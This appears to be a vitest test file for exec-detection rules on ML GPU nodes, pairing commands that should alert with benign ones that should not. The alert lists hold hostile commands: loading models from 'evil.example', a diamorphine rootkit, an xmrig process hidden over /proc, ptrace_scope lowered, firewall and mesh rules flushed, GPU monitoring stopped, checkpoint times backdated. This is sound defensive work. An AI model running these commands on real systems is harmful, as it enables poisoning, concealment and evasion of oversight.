/**
 * What an exec changes under the workloads, through the shipped rule set and the real engine: the
 * node's GPUs retuned or repartitioned (MLS-RAY-038), the GPU's own records and DCGM's watches
 * cleared or a process hidden from /proc (MLS-POISON-006), a checkpoint's times set back
 * (MLS-POISON-018), a model server told to load what the request brings (MLS-POISON-019), a kernel
 * module loaded or the runtime's CLI driven (MLS-RAY-021), the ptrace restriction lowered
 * (MLS-EXFIL-045), the pod's packet filter or mesh redirection changed (MLS-EXFIL-052). Beside each,
 * the everyday neighbours that must stay quiet.
 */
import { describe, it } from 'vitest';
import { expectQuiet as quiet, expectRaised as raises } from './exec-events.test-support.js';

describe('MLS-RAY-038: exec changes the node GPU settings', () => {
  it('alerts on power and clock caps, ECC off, compute modes, resets, MIG and drain changes, dcgmi config', () => {
    raises('MLS-RAY-038', [
      'nvidia-smi -pl 150',
      'sudo nvidia-smi -pm 1 && sudo nvidia-smi -lgc 1100,1100',
      'nvidia-smi --applications-clocks=877,1530',
      'nvidia-smi -i 0 -e 0',
      'nvidia-smi --ecc-config=DISABLED',
      'nvidia-smi -c EXCLUSIVE_PROCESS',
      'nvidia-smi -c 2',
      'nvidia-smi --gpu-reset -i 0',
      'nvidia-smi mig -dci && nvidia-smi mig -dgi',
      'nvidia-smi drain -p 0000:3b:00.0 -m 1',
      'nvidia-smi -mig 0',
      'dcgmi config --set -P 100',
      'for i in 0 1 2 3; do nvidia-smi -i $i -lmc 5001; done',
    ]);
  });

  it('leaves queries, settings turned back, persistence mode and ECC turned on', () => {
    quiet('MLS-RAY-038', [
      'nvidia-smi',
      'nvidia-smi -q -d PERFORMANCE',
      'nvidia-smi --query-gpu=index,power.draw,clocks.sm --format=csv -l 1',
      'nvidia-smi dmon -c 10',
      'nvidia-smi mig -lgi',
      'nvidia-smi -pm 1',
      'nvidia-smi -rgc',
      'nvidia-smi -rac',
      'nvidia-smi -c 0',
      'nvidia-smi -c DEFAULT',
      'nvidia-smi -e 1',
      'dcgmi config --get',
    ]);
  });
});

describe('MLS-POISON-006: the GPU records wiped, DCGM stopped or blinded, a process hidden', () => {
  it('alerts on ECC counts reset, accounting off or cleared, DCGM watches cleared, the DCGM service stopped, /proc/PID mounted over', () => {
    raises('MLS-POISON-006', [
      'nvidia-smi -p 0',
      'nvidia-smi --reset-ecc-errors=1',
      'nvidia-smi -am 0',
      'nvidia-smi -caa',
      'dcgmi policy --clear',
      'dcgmi health -g 1 --clear',
      'dcgmi modules --denylist health',
      'systemctl stop nvidia-dcgm',
      'systemctl stop dcgm',
      'mount --bind /tmp/empty /proc/4242',
      'mkdir /tmp/.e && mount -o bind /tmp/.e /proc/$(pgrep xmrig)',
    ]);
  });

  it('leaves accounting turned on, DCGM read, proc mounted, a policy set', () => {
    quiet('MLS-POISON-006', [
      'nvidia-smi -am 1',
      'nvidia-smi --query-accounted-apps=pid,gpu_util --format=csv',
      'dcgmi health --check',
      'dcgmi policy --get',
      'dcgmi policy --set 0,0 -e',
      'systemctl status nvidia-dcgm',
      'mount -t proc proc /proc',
      'mount | grep /proc',
    ]);
  });
});

describe('MLS-POISON-018: exec sets a checkpoint file times by hand', () => {
  it('alerts on touch -r / -d / -t over a weight file or a checkpoint store, placed and listed', () => {
    raises('MLS-POISON-018', [
      'touch -r /mnt/ckpt/step_900/model.pt /mnt/ckpt/step_1000/model.pt',
      'touch -d "2024-01-01 00:00" /workspace/out/model.safetensors',
      'touch -t 202401010000 /mnt/models/llama/config.json',
      'cd /mnt/ckpt && touch -r step_900/model.pt step_1000/model.pt',
      "find /mnt/ckpt -name '*.pt' -exec touch -r /tmp/ref {} +",
      'ls /data/checkpoints/*/model.bin | xargs touch -d 2024-01-01',
      'touch --reference=/tmp/x adapter_model.safetensors',
    ]);
  });

  it('leaves a touch to now, a marker file, staging copies and files that are no model', () => {
    quiet('MLS-POISON-018', [
      'touch /mnt/ckpt/.done',
      'touch -a /mnt/ckpt/step_1000/model.pt',
      'touch -c /mnt/ckpt/model.pt',
      'touch -d yesterday /tmp/x.pt',
      'touch -r /etc/hosts /workspace/notes.txt',
      'touch -t 202401010000 /var/log/app.log',
    ]);
  });
});

describe('MLS-POISON-019: exec makes a model server load a model from a URL or from its request', () => {
  it('alerts on a TorchServe archive registered from a URL and a Triton load that carries files', () => {
    raises('MLS-POISON-019', [
      'curl -X POST "http://localhost:8081/models?url=http://203.0.113.9/evil.mar&initial_workers=1"',
      'curl -X POST "http://127.0.0.1:8081/models?initial_workers=1&url=https%3A%2F%2Fevil.example%2Fm.mar"',
      'curl -s -XPOST "torchserve.serving:8081/models/?url=s3://bkt/m.mar"',
      'curl -X POST localhost:8000/v2/repository/models/resnet/load -d \'{"parameters":{"file:1/model.py":"aW1wb3J0IG9z"}}\'',
      'curl -X POST http://triton:8000/v2/repository/models/llm/load --data-raw \'{"parameters":{"config":"{}","file:1/model.onnx":"AAA="}}\'',
      'python3 -c "import requests; requests.post(\'http://localhost:8000/v2/repository/models/r/load\', json={\'parameters\': {\'file:1/model.py\': \'eA==\'}})"',
    ]);
  });

  it('leaves registering or loading what the repository already holds, unloads, listings and inference', () => {
    quiet('MLS-POISON-019', [
      'curl -X POST "http://localhost:8081/models?url=resnet-18.mar"',
      'curl http://localhost:8081/models',
      'curl -X POST localhost:8000/v2/repository/models/resnet/load',
      'curl -X POST localhost:8000/v2/repository/models/resnet/unload',
      'curl -X POST localhost:8000/v2/repository/index',
      'curl -X POST localhost:8000/v2/models/resnet/infer -d \'{"inputs":[{"name":"file:x","datatype":"BYTES","shape":[1],"data":["a"]}]}\'',
    ]);
  });
});

describe('MLS-RAY-021: kernel modules and the runtime CLI', () => {
  it('alerts on modprobe of a module and on crictl / ctr driving the node runtime', () => {
    raises('MLS-RAY-021', ['modprobe diamorphine', 'modprobe -a x y', 'modprobe -r apparmor', 'modprobe -n nvidia; modprobe diamorphine', 'crictl exec -it 1a2b sh', 'crictl ps', 'ctr -n k8s.io tasks exec --exec-id x c sh', 'ctr --namespace k8s.io containers list']);
  });

  it('leaves a configuration shown, help and version', () => {
    quiet('MLS-RAY-021', ['modprobe -c', 'modprobe --showconfig', 'crictl --version', 'ctr --help', 'lsmod | grep nvidia']);
  });
});

describe('MLS-EXFIL-045: the ptrace restriction lowered before a memory read', () => {
  it('alerts on the Yama file written or set through sysctl', () => {
    raises('MLS-EXFIL-045', ['echo 0 > /proc/sys/kernel/yama/ptrace_scope', 'echo 0 | tee /proc/sys/kernel/yama/ptrace_scope', 'sysctl -w kernel.yama.ptrace_scope=0', 'sysctl kernel/yama/ptrace_scope=0']);
  });

  it('leaves the setting read', () => {
    quiet('MLS-EXFIL-045', ['cat /proc/sys/kernel/yama/ptrace_scope', 'sysctl kernel.yama.ptrace_scope', 'sysctl -a | grep ptrace']);
  });
});

describe('MLS-EXFIL-052: the pod packet filter or mesh redirection changed', () => {
  it('alerts on rules flushed, a policy set, rules inserted or deleted, all rules restored, nftables changed', () => {
    raises('MLS-EXFIL-052', [
      'iptables -F',
      'iptables -t nat -F',
      'iptables -P OUTPUT ACCEPT',
      'iptables -t nat -I OUTPUT -d 203.0.113.9 -j RETURN',
      'iptables -t nat -D OUTPUT -p tcp -j ISTIO_OUTPUT',
      'ip6tables --flush',
      'iptables-legacy -w -F',
      'iptables-restore < /tmp/rules',
      'nft flush ruleset',
      'nft delete table inet istio',
    ]);
  });

  it('leaves listings, saves and versions', () => {
    quiet('MLS-EXFIL-052', ['iptables -L -n', 'iptables -nvL', 'iptables -t nat -S', 'iptables-save', 'nft list ruleset', 'iptables --version', 'iptables -t nat -L -v -n --line-numbers']);
  });
});
